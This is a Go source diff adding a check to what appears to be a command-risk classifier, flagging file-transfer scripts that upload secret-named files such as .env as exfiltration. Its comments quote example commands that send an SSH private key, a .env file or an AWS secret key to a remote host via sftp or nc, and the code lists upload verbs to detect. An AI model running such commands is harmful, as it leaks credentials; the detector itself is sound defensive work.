@@ -339,6 +339,9 @@ func stdinClasses(cmd *Command, name string, roles role, in stdin) {
 		// "sftp host <<< 'put ~/.ssh/id_rsa'": a file transfer's script.
 		if f, ok := mentionsCredential(in.script); ok {
 			addClass(cmd, ClassRisk{Class: ClassExfiltrate, Reason: name + " is told on its input to send the credential file " + f, Token: f})
+		} else if f, ok := scriptSendsSecretFile(in.script); ok && roles&roleTransferShell != 0 {
+			// "sftp host <<< 'put .env'"
+			addClass(cmd, ClassRisk{Class: ClassExfiltrate, Reason: name + " is told on its input to send " + f + ", whose name says it holds secrets", Token: f})
 		} else if secretRef(in.script) {
 			// "nc host 80 <<< $AWS_SECRET_ACCESS_KEY"
 			addClass(cmd, ClassRisk{Class: ClassExfiltrate, Reason: name + " sends a secret from the environment given on its input: " + clip(strings.TrimSpace(in.script), 60), Token: name})
@@ -1250,6 +1253,28 @@ func batchFile(args []string) bool {
 // command: a line (or, for smbclient, a command after ";") starting
 // with "!", or a local file name starting with
 // "|", which BSD ftp opens as a pipe through the shell.
+// scriptSendsSecretFile returns a file a transfer client's script sends (put,
+// mput, send, append, reput) whose name says a project keeps secrets in
+// it (sensitive.SecretName: .env, secrets.yml).
+func scriptSendsSecretFile(script string) (string, bool) {
+	for line := range strings.FieldsFuncSeq(script, func(r rune) bool { return r == '\n' || r == ';' }) {
+		f := strings.Fields(line)
+		if len(f) < 2 {
+			continue
+		}
+		switch strings.ToLower(f[0]) {
+		case "put", "mput", "send", "append", "reput", "sput":
+			for _, a := range f[1:] {
+				a = strings.Trim(a, "'\"")
+				if !strings.HasPrefix(a, "-") && sensitive.SecretName(a) {
+					return a, true
+				}
+			}
+		}
+	}
+	return "", false
+}
+
 func transferShell(script string) bool {
 	for line := range strings.FieldsFuncSeq(script, func(r rune) bool { return r == '\n' || r == ';' }) {
 		line = strings.TrimSpace(line)
